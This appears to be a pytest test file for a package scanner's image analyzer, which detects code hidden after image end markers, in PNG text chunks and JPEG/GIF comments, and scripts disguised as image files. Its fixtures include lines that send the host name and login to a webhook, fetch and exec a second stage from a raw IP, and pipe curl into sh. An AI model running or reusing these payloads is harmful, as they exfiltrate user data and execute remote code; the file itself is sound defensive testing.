"""ImageAnalyzer: code after the end of images, in text chunks and comments, and scripts
named like images."""

from __future__ import annotations

import base64
import zlib

import pytest

from stockade.analysis.context import build_context
from stockade.analysis.images import RULES, ImageAnalyzer, decode_payload, looks_like_code
from stockade.analysis.model import Finding, Kind
from tests.analysis.generic.helpers import (
    archive,
    elf,
    gif,
    jpeg,
    jpeg_segment,
    member,
    pe,
    png,
    png_chunk,
    rules_of,
)

ANALYZER = ImageAnalyzer()

# Modelled on the steganography campaigns in public reports: an innocent-looking image whose
# appended bytes a loader reads, decodes and executes. Inert: the endpoint is dead.
PYTHON_PAYLOAD = (
    b"import os, platform, urllib.request\n"
    b"info = platform.node() + '|' + os.getlogin()\n"
    b"urllib.request.urlopen('https://webhook.site/00000000-0000', data=info.encode())\n"
    b"exec(urllib.request.urlopen('http://45.61.136.22/stage2').read())\n"
)
JS_PAYLOAD = (
    b"const { exec } = require('child_process');\nexec('curl -s http://45.61.136.22/s | sh');\n"
)


def _scan(files: dict[str, bytes]) -> list[Finding]:
    arch = archive(files, fmt="sdist", filename="pkg-1.0.tar.gz")
    return list(ANALYZER.analyze(arch, build_context(arch)))


def test_rules_are_registered_once_with_the_prefix() -> None:
    assert ANALYZER.rules == RULES
    assert len({r.id for r in RULES}) == len(RULES)
    assert all(r.id.startswith("img-") for r in RULES)


@pytest.mark.parametrize(
    ("relpath", "wanted"),
    [
        ("a/logo.png", True),
        ("x.JPG", True),
        ("icon.ico", True),
        ("logo.svg", False),
        ("a.js", False),
    ],
)
def test_wants(relpath: str, wanted: bool) -> None:
    assert ANALYZER.wants(relpath) is wanted


class TestHiddenPayload:
    def test_python_after_png_iend(self) -> None:
        findings = _scan({"docs/logo.png": png(after=PYTHON_PAYLOAD)})
        assert rules_of(findings) == ["img-hidden-payload"]
        finding = findings[0]
        assert finding.kind is Kind.THREAT
        assert "Python code" in finding.message and "after the PNG IEND chunk" in finding.message
        assert "exec(urllib.request.urlopen" in finding.snippet

    def test_base64_of_compressed_code_after_png(self) -> None:
        blob = base64.b64encode(zlib.compress(PYTHON_PAYLOAD))
        findings = _scan({"assets/banner.png": png(after=b"\n" + blob)})
        assert rules_of(findings) == ["img-hidden-payload"]
        assert "zlib-compressed, base64-encoded" in findings[0].message

    def test_executable_after_png(self) -> None:
        findings = _scan({"icon.png": png(after=pe())})
        assert rules_of(findings) == ["img-hidden-payload"]
        assert "a PE x86-64 executable" in findings[0].message

    def test_png_text_chunks(self) -> None:
        ztxt = png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(JS_PAYLOAD))
        itxt = png_chunk(b"iTXt", b"Description\x00\x00\x00en\x00\x00" + PYTHON_PAYLOAD)
        findings = _scan({"a.png": png(chunks=[ztxt]), "b.png": png(chunks=[itxt])})
        assert rules_of(findings) == ["img-hidden-payload", "img-hidden-payload"]
        assert "JavaScript code in a PNG zTXt chunk" in findings[0].message
        assert "Python code in a PNG iTXt chunk" in findings[1].message

    def test_private_png_chunk(self) -> None:
        chunk = png_chunk(b"prVt", base64.b64encode(JS_PAYLOAD))
        findings = _scan({"a.png": png(chunks=[chunk])})
        assert rules_of(findings) == ["img-hidden-payload"]
        assert "private PNG prVt chunk" in findings[0].message

    def test_after_jpeg_end_of_image(self) -> None:
        findings = _scan({"photo.jpg": jpeg(after=JS_PAYLOAD)})
        assert rules_of(findings) == ["img-hidden-payload"]
        assert "after the JPEG end-of-image marker" in findings[0].message

    def test_jpeg_comment(self) -> None:
        findings = _scan({"photo.jpeg": jpeg(segments=[jpeg_segment(0xFE, PYTHON_PAYLOAD)])})
        assert rules_of(findings) == ["img-hidden-payload"]
        assert "JPEG comment" in findings[0].message

    def test_after_gif_trailer_and_in_a_comment(self) -> None:
        findings = _scan(
            {"a.gif": gif(after=elf(e_type=2)), "b.gif": gif(comment=base64.b64encode(JS_PAYLOAD))}
        )
        assert rules_of(findings) == ["img-hidden-payload", "img-hidden-payload"]
        assert "ELF" in findings[0].message
        assert "GIF comment" in findings[1].message


class TestCleanImages:
    def test_ordinary_metadata(self) -> None:
        xmp = b'<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"></x:xmpmeta>'
        files = {
            "a.png": png(chunks=[png_chunk(b"tEXt", b"Software\x00www.inkscape.org")]),
            "b.png": png(
                chunks=[png_chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + xmp)]
            ),
            "c.jpg": jpeg(segments=[jpeg_segment(0xFE, b"Created with GIMP")]),
            "d.gif": gif(comment=b"Made with love"),
        }
        assert _scan(files) == []

    def test_exif_thumbnail_end_marker_is_not_the_end(self) -> None:
        # An EXIF thumbnail carries its own FFD9 inside APP1; the image goes on after it.
        thumbnail = b"Exif\x00\x00" + b"\xff\xd8\xff\xdb" + b"\x00" * 20 + b"\xff\xd9"
        assert _scan({"p.jpg": jpeg(segments=[jpeg_segment(0xE1, thumbnail)])}) == []

    def test_appended_second_picture_and_padding(self) -> None:
        files = {"mpf.jpg": jpeg(after=jpeg()), "pad.png": png(after=b"\x00" * 512)}
        assert _scan(files) == []

    def test_incomplete_member_has_no_known_end(self) -> None:
        data = png(after=PYTHON_PAYLOAD)
        arch = archive([member("big.png", data[:40], complete=False, size=50_000_000)], fmt="sdist")
        assert list(ANALYZER.analyze(arch, build_context(arch))) == []


class TestTrailingData:
    def test_opaque_bytes_after_the_end(self) -> None:
        findings = _scan({"a.png": png(after=bytes(range(256)) * 2)})
        assert rules_of(findings) == ["img-trailing-data"]
        assert findings[0].kind is Kind.CAPABILITY
        assert "512 bytes" in findings[0].message

    def test_a_few_stray_bytes(self) -> None:
        assert _scan({"a.png": png(after=b"\r\n\x1a"), "b.gif": gif(after=b"garbage")}) == []


class TestNotAnImage:
    def test_script_named_as_an_image(self) -> None:
        script = b"#!/bin/sh\ncurl -s http://45.61.136.22/s | sh\n"
        py = b"import base64, zlib\nexec(zlib.decompress(base64.b64decode(DATA)))\n"
        findings = _scan({"img/logo.png": script, "img/bg.jpg": py})
        assert rules_of(findings) == ["img-script-disguised", "img-script-disguised"]
        assert "shell code" in findings[0].message
        assert "Python code" in findings[1].message
        assert all(f.kind is Kind.THREAT for f in findings)

    def test_opaque_data_named_as_an_image(self) -> None:
        blob = bytes((i * 73 + 41) % 256 for i in range(2048))
        findings = _scan({"img/photo.jpg": blob})
        assert rules_of(findings) == ["img-not-image"]
        assert findings[0].kind is Kind.CAPABILITY

    @pytest.mark.parametrize(
        "data",
        [
            b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"a" * 64 + b"\nsize 1\n",
            b"",
            b"BM" + b"\x00" * 100,
            b"\x00\x00\x01\x00" + b"\x00" * 100,
            b"II*\x00" + b"\x00" * 100,
            b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 28,
            elf(),
        ],
    )
    def test_other_images_placeholders_and_executables(self, data: bytes) -> None:
        assert _scan({"img/x.png": data}) == []


class TestDecoding:
    def test_code_detection(self) -> None:
        assert looks_like_code(PYTHON_PAYLOAD.decode()) == "Python code"
        assert looks_like_code(JS_PAYLOAD.decode()) == "JavaScript code"
        assert looks_like_code("The import of goods; exports rose.") is None
        assert looks_like_code("Created with GIMP on a Tuesday") is None

    def test_layers(self) -> None:
        gz = zlib.compressobj(wbits=31)
        gzipped = gz.compress(JS_PAYLOAD) + gz.flush()
        found = decode_payload(base64.b64encode(gzipped))
        assert (
            found is not None and found.what == "JavaScript code, gzip-compressed, base64-encoded"
        )
        assert decode_payload(base64.b64encode(b"just some words here")) is None
        assert decode_payload(b"\x00\x00\x00") is None

    def test_compression_bombs_are_bounded(self) -> None:
        bomb = zlib.compress(b"\x00" * (64 << 20), 9)
        assert decode_payload(bomb) is None
